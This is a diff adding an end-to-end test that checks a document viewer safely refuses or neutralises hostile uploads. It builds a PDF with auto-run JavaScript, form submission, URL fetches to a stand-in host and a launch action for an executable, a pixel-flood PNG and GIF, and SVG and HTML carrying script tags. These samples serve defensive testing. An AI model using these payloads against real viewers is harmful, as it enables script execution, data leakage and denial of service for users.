@@ -1,8 +1,12 @@
 // Files of the sample, each in the viewer of its kind, on the built product: under its content security policy, with keys alone, and by
 // its own address. useWorld fails a test for any breach of the policy.
+import { crc32 } from 'node:zlib';
 import type { Locator, Page } from 'playwright-core';
+import sharp from 'sharp';
 import { expect, it } from 'vitest';
+import { attachFiles } from 'tests/e2e/harness/attachFiles.ts';
 import { axe } from 'tests/e2e/harness/axe.ts';
+import { tokenOf } from 'tests/e2e/harness/signIn.ts';
 import { useWorld } from 'tests/e2e/harness/useWorld.ts';
 
 const world = useWorld();
@@ -85,4 +89,117 @@ it('[FILE-02] plays a recording and a film with their captions, turns a model, r
   await openFiles(page, 'Tides of the narrows');
   await page.getByRole('link', { name: 'tides-of-the-narrows.txt' }).click();
   await viewer(page, 'tides-of-the-narrows.txt').getByText('10:25 high water').waitFor();
+});
+
+const ELSEWHERE = 'https://elsewhere.test';
+
+/** Runs a script, sends a form, plays a film and follows a link as soon as a careless reader opens it; its page has one line and a link. */
+const hostilePdf = (): Buffer => {
+  const line = 'BT /F1 18 Tf 40 100 Td (Nothing else happens.) Tj ET';
+  const script = `app.alert(1); this.submitForm("${ELSEWHERE}/form"); this.getURL("${ELSEWHERE}/js");`;
+  const objects = [
+    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >>
+      /AA << /WC << /S /URI /URI (${ELSEWHERE}/closed) >> >> >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [6 0 R 7 0 R]
+      /AA << /O << /S /URI /URI (${ELSEWHERE}/opened) >> >>
+      /Resources << /Font << /F1 5 0 R >> /XObject << /X 8 0 R >> >> >>`,
+    `<< /Length ${line.length + 6} >> stream\n${line} /X Do\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    `<< /Type /Annot /Subtype /Link /Rect [40 90 200 130] /A << /S /URI /URI (${ELSEWHERE}/link) >> >>`,
+    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [40 20 90 50] /A << /S /Launch /F (${ELSEWHERE}/run.exe) >> >>`,
+    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0
+      /F << /FS /URL /F (${ELSEWHERE}/pixel) >> >> stream\n\nendstream`,
+  ];
+  const body = objects.map((each, at) => `${at + 1} 0 obj ${each} endobj`).join('\n');
+  return Buffer.from(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R /Size 9 >>\n%%EOF\n<html><script>alert(1)</script>`);
+};
+
+/** Says that it is 60,000 by 60,000 pixels. */
+const floodPicture = async (): Promise<Buffer> => {
+  const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
+    .png()
+    .toBuffer();
+  png.writeUInt32BE(60_000, 16);
+  png.writeUInt32BE(60_000, 20);
+  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
+  return png;
+};
+
+/** A triangle with that picture on it. */
+const modelWith = (picture: Buffer): Buffer => {
+  const corners = Buffer.from(new Float32Array([0, 0, 0, 1, 0, 0, 0, 1, 0]).buffer);
+  const data = (type: string, bytes: Buffer): string => `data:${type};base64,${bytes.toString('base64')}`;
+  return Buffer.from(
+    JSON.stringify({
+      asset: { version: '2.0' },
+      ...{ scene: 0, scenes: [{ nodes: [0] }], nodes: [{ mesh: 0 }] },
+      meshes: [{ primitives: [{ attributes: { POSITION: 0 }, material: 0 }] }],
+      materials: [{ pbrMetallicRoughness: { baseColorTexture: { index: 0 } } }],
+      ...{ textures: [{ source: 0 }], images: [{ uri: data('image/png', picture) }] },
+      accessors: [{ bufferView: 0, componentType: 5126, count: 3, type: 'VEC3', min: [0, 0, 0], max: [1, 1, 0] }],
+      bufferViews: [{ buffer: 0, byteLength: corners.length }],
+      buffers: [{ byteLength: corners.length, uri: data('', corners) }],
+    }),
+  );
+};
+
+it('[TRUST] files made to harm say why they are not shown, run nothing and fetch nothing', async () => {
+  const flood = await floodPicture();
+  const outside = {
+    asset: { version: '2.0' },
+    buffers: [{ uri: `${ELSEWHERE}/a.bin` }],
+    images: [{ uri: '../b.png' }],
+  };
+  const script = '<script>alert(1)</script>';
+  const refused: Readonly<Record<string, readonly [Buffer, RegExp]>> = {
+    'outside.gltf': [
+      Buffer.from(JSON.stringify(outside)),
+      /needs other files \(https:\/\/elsewhere\.test\/a\.bin, \.\.\/b\.png\)/,
+    ],
+    'flood.png': [flood, /The picture is broken, or larger than can be drawn/],
+    'flood.gif': [
+      Buffer.from('474946383961ffffffff800000000000ffffff2c00000000ffffffff00020144003b', 'hex'),
+      /The picture is broken/,
+    ],
+    'script.svg': [Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), /can hold programs/],
+    'page.html': [Buffer.from(`<html>${script}<img src="${ELSEWHERE}/x"></html>`), /A web page can hold programs/],
+    'jar.ogg': [
+      Buffer.concat([Buffer.from('OggS'), Buffer.from('PK\u0003\u0004'), Buffer.alloc(64)]),
+      /cannot be read as what it says/,
+    ],
+    'text.pdf': [Buffer.from('%PDF-1.4 and no more'), /cannot be read as what it says/],
+  };
+  const token = await tokenOf(world.url, 'staff');
+  const contents = Object.fromEntries(Object.entries(refused).map(([name, [content]]) => [name, content]));
+  const others = { 'script.pdf': hostilePdf(), 'flood.gltf': modelWith(flood) };
+  const { record, files } = await attachFiles(world.url, token, { ...contents, ...others });
+  const { page, allowConsole } = await world.open({ as: 'staff' });
+  // Copies of what is no picture.
+  allowConsole(/404|Failed to load/);
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => dialogs.push(dialog.message()));
+  const names = [...Object.keys(refused), ...Object.keys(others)];
+  const openFile = (name: string): Promise<unknown> =>
+    page.goto(`/i-${record}?c0=files:${files[names.indexOf(name)]?.id ?? ''}`);
+  for (const [name, [, why]] of Object.entries(refused)) {
+    await openFile(name);
+    await viewer(page, name).getByText(why).waitFor();
+    expect(
+      await viewer(page, name)
+        .getByRole('button', { name: `Download ${name}` })
+        .count(),
+      name,
+    ).toBeGreaterThan(0);
+  }
+  // Without its picture, which is not decoded.
+  await openFile('flood.gltf');
+  await viewer(page, 'flood.gltf').locator('[data-shown]').waitFor();
+  await openFile('script.pdf');
+  const pdf = viewer(page, 'script.pdf');
+  await pdf.locator('.textLayer').getByText('Nothing else happens.').waitFor();
+  const link = pdf.locator(`a[href="${ELSEWHERE}/link"]`);
+  await expect.poll(() => link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
+  expect(await pdf.locator('a[href*="run.exe"]').count()).toBe(0);
+  expect([dialogs, page.context().pages().length]).toEqual([[], 1]);
 });
